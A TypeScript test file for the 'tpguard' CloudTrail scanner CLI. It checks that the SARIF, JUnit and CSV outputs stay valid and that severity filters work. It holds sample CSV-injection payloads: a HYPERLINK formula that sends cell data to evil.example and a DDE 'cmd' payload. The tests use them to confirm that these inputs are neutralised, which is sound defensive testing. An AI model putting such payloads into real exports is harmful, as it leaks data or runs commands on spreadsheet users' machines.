import AjvDraft04 from 'ajv-draft-04';
import ajvFormats from 'ajv-formats';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadPolicyPack } from '../../shared/policy/index.js';
import { csvCell } from '../../cli/formats/index.js';
import { runCli } from '../helpers/cli.js';
import { loadShape, REPO_ROOT, SHAPES_DIR, tempDir, type Json } from '../helpers/fixtures.js';
import { writeText } from '../helpers/pack.js';

const SCHEMA = JSON.parse(readFileSync(join(import.meta.dirname, '../fixtures/sarif/sarif-2.1.0-rtm.5.json'), 'utf8'));
// unicodeRegExp off: one pattern of the schema (a language tag) is not valid with the u flag.
const ajv = new AjvDraft04.default({ allErrors: true, strict: false, unicodeRegExp: false });
ajvFormats.default(ajv);
const validateSarif = ajv.compile(SCHEMA);

/** Names an attacker chooses (a bucket, a session) reach every cell: markup, formulas, controls. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\tlooks-indented',
  'ml-<script>&"\'\u0007\u001b[2J\ud800-x',
];

/** Control characters other than tab, LF and CR (DEL included). */
const controls = (text: string) => [...text].filter((c) => (c < ' ' && !'\t\n\r'.includes(c)) || c === '\u007f');

let dir: string;
let cleanup: () => Promise<void>;
let hostile: string;
let broken: string;
let allInScope: string;
const EVENTS = join(REPO_ROOT, 'events', 'cloudtrail');

beforeAll(async () => {
  ({ dir, cleanup } = await tempDir('tpguard-formats-'));
  const base = loadShape<Json>('eventbridge-cloudtrail-s3-put-bucket-versioning-suspended.json');
  hostile = join(dir, 'hostile.ndjson');
  await writeText(
    hostile,
    `${HOSTILE.map((name, i) => {
      const e = structuredClone(base);
      e.id = `00000000-0000-4000-8000-00000000000${i}`;
      e.detail.eventID = e.id;
      e.detail.requestParameters.bucketName = name;
      return JSON.stringify(e);
    }).join('\n')}\n`,
  );
  broken = join(dir, 'broken.json');
  await writeText(broken, '{"Records": [ nope');
  allInScope = join(dir, 'all.yaml');
  await writeText(allInScope, 'scope:\n  resources:\n    s3-bucket: ["*"]\n');
});
afterAll(async () => cleanup());

describe('Command: tpguard scan --format sarif', () => {
  it('is valid SARIF 2.1.0: one reportingDescriptor per rule, with the runbook as help, one result per violation', async () => {
    // Act
    const sarif = await runCli(['scan', EVENTS, '--format', 'sarif']);
    const json = await runCli(['scan', EVENTS, '--format', 'json']);

    // Assess
    const log = JSON.parse(sarif.stdout);
    const valid = validateSarif(log);
    expect(validateSarif.errors ?? []).toEqual([]);
    expect(valid).toBe(true);
    expect(sarif.code).toBe(1);
    const pack = await loadPolicyPack(join(REPO_ROOT, 'policies'));
    const run = log.runs[0];
    const rules = run.tool.driver.rules as Json[];
    expect(rules.map((r) => r.id)).toEqual(pack.rules.map((r) => r.rule.id));
    const s302 = rules.find((r) => r.id === 'TPS-S3-02')!;
    const runbook = pack.rules.find((r) => r.rule.id === 'TPS-S3-02')!.rule.runbook.trim();
    expect(s302.help.text).toContain(runbook);
    expect(s302.shortDescription.text).toBe(pack.rules.find((r) => r.rule.id === 'TPS-S3-02')!.rule.title);
    const expected = JSON.parse(json.stdout).results as Json[];
    expect(run.results).toHaveLength(expected.length);
    for (const [i, result] of (run.results as Json[]).entries()) {
      expect(rules[result.ruleIndex].id).toBe(result.ruleId);
      expect(result.ruleId).toBe(expected[i]!.ruleId);
      expect(result.kind).toBe('fail');
      expect(result.locations[0].logicalLocations[0]).toEqual({
        name: expected[i]!.resourceId,
        fullyQualifiedName: `${expected[i]!.account}/${expected[i]!.region}/${expected[i]!.resourceType}/${expected[i]!.resourceId}`,
        kind: 'resource',
      });
      expect(result.locations[0].physicalLocation.artifactLocation.uri).toMatch(/^events\/cloudtrail\/.*\.json$/);
    }
    expect(run.invocations[0]).toEqual({
      executionSuccessful: true,
      toolConfigurationNotifications: [],
      toolExecutionNotifications: [],
    });
  });

  it('stays valid with hostile names and a rejected input, which becomes a tool execution notification', async () => {
    // Act
    const { code, stdout } = await runCli(['scan', hostile, broken, '--config', allInScope, '--format', 'sarif']);

    // Assess
    const log = JSON.parse(stdout);
    expect(validateSarif(log), JSON.stringify(validateSarif.errors)).toBe(true);
    expect(code).toBe(2);
    const run = log.runs[0];
    expect(run.results.map((r: Json) => r.locations[0].logicalLocations[0].name)).toEqual(
      expect.arrayContaining(HOSTILE.slice(0, 4)),
    );
    expect(run.invocations[0].executionSuccessful).toBe(false);
    // The configuration approves nothing: each empty list the pack reads is said once, as a warning.
    expect(run.invocations[0].toolConfigurationNotifications.length).toBeGreaterThan(0);
    for (const n of run.invocations[0].toolConfigurationNotifications)
      expect(n).toMatchObject({
        level: 'warning',
        message: { text: expect.stringMatching(/^not configured: approved\./) },
      });
    expect(run.invocations[0].toolExecutionNotifications).toEqual([
      {
        level: 'error',
        message: { text: expect.stringMatching(/broken\.json(:\d+)?: invalid JSON/) },
        locations: [
          { physicalLocation: { artifactLocation: { uri: expect.stringMatching(/^file:\/\/.*broken\.json$/) } } },
        ],
      },
    ]);
  });

  it('with --severity, --rule, --account and --region, describes and reports only what they select', async () => {
    // Act
    const { stdout } = await runCli([
      'scan',
      EVENTS,
      '--format',
      'sarif',
      '--severity',
      'high',
      '--rule',
      'TPS-S3-*,TPS-SM-*',
      '--account',
      '111122223333',
      '--region',
      'eu-west-1',
    ]);

    // Assess
    const run = JSON.parse(stdout).runs[0];
    expect(validateSarif(JSON.parse(stdout))).toBe(true);
    expect(run.tool.driver.rules.length).toBeGreaterThan(0);
    for (const r of run.tool.driver.rules) {
      expect(r.id).toMatch(/^TPS-(S3|SM)-/);
      expect(['critical', 'high']).toContain(r.properties.severity);
    }
    for (const r of run.results) expect(r.properties).toMatchObject({ account: '111122223333', region: 'eu-west-1' });
    expect(run.properties.summary.filteredOut).toBeGreaterThan(0);
  });
});

describe('Command: tpguard scan --format junit', () => {
  it('is well-formed XML with one failure per violation and a passed case per rule that found nothing', async () => {
    // Act
    const junit = await runCli(['scan', EVENTS, '--format', 'junit', '--rule', 'TPS-S3-*']);
    const json = await runCli(['scan', EVENTS, '--format', 'json', '--rule', 'TPS-S3-*']);

    // Assess
    expect(XMLValidator.validate(junit.stdout)).toBe(true);
    const doc = new XMLParser({
      ignoreAttributes: false,
      isArray: (name) => ['testsuite', 'testcase'].includes(name),
    }).parse(junit.stdout);
    const violations = JSON.parse(json.stdout).summary.violations as number;
    const cases = (doc.testsuites.testsuite as Json[]).flatMap((s) => s.testcase as Json[]);
    expect(doc.testsuites['@_failures']).toBe(String(violations));
    expect(cases.filter((c) => c.failure)).toHaveLength(violations);
    expect(cases.every((c) => String(c['@_classname']).startsWith('tpguard.s3.TPS-S3-'))).toBe(true);
    const pack = await loadPolicyPack(join(REPO_ROOT, 'policies'));
    const s3 = pack.rules.filter((r) => r.rule.id.startsWith('TPS-S3-')).map((r) => r.rule.id);
    expect(new Set(cases.map((c) => String(c['@_classname']).split('.')[2]))).toEqual(new Set(s3));
    expect(junit.code).toBe(1);
  });

  it('stays well-formed with hostile names (markup escaped, controls written as text) and lists rejected inputs as errors', async () => {
    // Act
    const { code, stdout } = await runCli(['scan', hostile, broken, '--config', allInScope, '--format', 'junit']);

    // Assess
    expect(code).toBe(2);
    expect(XMLValidator.validate(stdout)).toBe(true);
    expect(controls(stdout)).toEqual([]);
    expect(stdout).toContain('ml-&lt;script&gt;&amp;&quot;&apos;\\x07\\x1b[2J\\u{d800}-x');
    expect(stdout).toMatch(/<testsuite name="tpguard rejected inputs" tests="1" failures="0" errors="1"/);
  });
});

describe('Command: tpguard scan --format csv', () => {
  it('writes a header and one RFC 4180 row per violation, the same rows as ndjson', async () => {
    // Act
    const csv = await runCli(['scan', EVENTS, '--format', 'csv']);
    const ndjson = await runCli(['scan', EVENTS, '--format', 'ndjson']);

    // Assess
    const lines = csv.stdout.split('\r\n');
    expect(lines[0]).toBe(
      'severity,ruleId,title,verdict,resourceType,resourceId,account,region,eventName,eventTime,eventId,source,actor,where,reason',
    );
    expect(lines.at(-1)).toBe('');
    const rows = ndjson.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Json);
    expect(lines.length - 2).toBe(rows.length);
    expect(lines[1]!.split(',').slice(0, 2)).toEqual([rows[0]!.severity, rows[0]!.ruleId]);
    expect(csv.code).toBe(1);
  });

  it('neutralizes cells a spreadsheet would run as a formula (event fields are attacker-controlled)', async () => {
    // Act
    const { stdout } = await runCli([
      'scan',
      hostile,
      '--config',
      allInScope,
      '--format',
      'csv',
      '--rule',
      'TPS-S3-04',
    ]);

    // Assess
    const cells = (line: string) => line.split(',').slice(5, 6)[0];
    const lines = stdout.split('\r\n').slice(1, -1);
    expect(stdout).toContain(',"\'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",');
    expect(lines.map(cells)).toEqual(
      expect.arrayContaining(["'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)", "'\tlooks-indented"]),
    );
    expect(stdout).toContain('"ml-<script>&""\'\\x07\\x1b[2J\ud800-x"');
    expect(stdout).not.toMatch(/(^|,)[=+\-@\t]/m);
    expect(controls(stdout)).toEqual([]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', '"\'\rx"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['a=1', 'a=1'],
    ['bell\u0007 esc\u001b[2J del\u007f', 'bell\\x07 esc\\x1b[2J del\\x7f'],
    ['', ''],
  ])('csvCell(%j) is %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe('Command: tpguard scan --severity and --fail-on', () => {
  it('--severity reports that level and above, and says how many the filter left out', async () => {
    // Act
    const all = JSON.parse((await runCli(['scan', EVENTS, '--format', 'json'])).stdout);
    const high = JSON.parse((await runCli(['scan', EVENTS, '--format', 'json', '--severity', 'high'])).stdout);

    // Assess
    const expected = (all.results as Json[]).filter((r) => ['critical', 'high'].includes(r.severity));
    expect(high.results).toEqual(expected);
    expect(high.summary).toMatchObject({
      violations: expected.length,
      filteredOut: all.summary.violations - expected.length,
    });
    expect(all.summary).not.toHaveProperty('filteredOut');
  });

  it('--fail-on sets the level at which the exit status is 1; none never fails on violations', async () => {
    // Prepare: the critical, high and medium violations of these events
    const file = join(EVENTS, 's3-put-bucket-versioning-suspended-violation.json');
    const levels = JSON.parse((await runCli(['scan', file, '--format', 'json'])).stdout).results.map(
      (r: Json) => r.severity,
    );

    // Act
    const codes = [];
    for (const failOn of ['informational', 'high', 'critical', 'none'])
      codes.push((await runCli(['scan', file, '--format', 'json', '--fail-on', failOn])).code);

    // Assess
    expect(levels).toEqual(['high']);
    expect(codes).toEqual([1, 1, 0, 0]);
  });

  it.each([
    [['--severity', 'urgent'], 'tpguard: --severity must be one of critical, high, medium, low, informational'],
    [['--fail-on', 'urgent'], 'tpguard: --fail-on must be one of critical, high, medium, low, informational'],
    [['--account', '1234'], 'tpguard: --account: 1234 is not a 12-digit account id'],
    [['--region', 'Ireland'], 'tpguard: --region: Ireland is not a region name such as eu-west-1'],
  ])('refuses %j in one line, exit 2', async (args, line) => {
    const { code, stdout, stderr } = await runCli(['scan', SHAPES_DIR, ...args]);
    expect([code, stdout, stderr]).toEqual([2, '', `${line}\n`]);
  });

  it('refuses a --rule glob that matches no rule of the pack, so a typo cannot pass CI silently', async () => {
    const { code, stderr } = await runCli(['scan', SHAPES_DIR, '--rule', 'TPS-S3-*', '--rule', 'TPS-S4-*']);
    expect(code).toBe(2);
    expect(stderr).toMatch(
      /^tpguard: --rule: TPS-S4-\* matches no rule of the pack \(see: (npx )?tpguard rules list\)\n$/,
    );
  });
});
